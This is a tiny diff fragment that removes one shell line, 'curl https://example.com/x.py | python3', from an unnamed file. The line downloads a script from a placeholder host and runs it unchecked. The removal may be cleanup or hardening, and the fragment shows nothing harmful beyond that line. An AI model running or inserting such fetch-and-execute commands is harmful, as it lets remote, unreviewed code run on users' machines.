@@ -1,1 +1,0 @@
-curl https://example.com/x.py | python3
